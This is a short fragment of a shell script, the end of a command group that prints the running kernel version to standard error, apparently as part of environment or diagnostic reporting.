  echo "kernel $(uname -r)"
} >&2
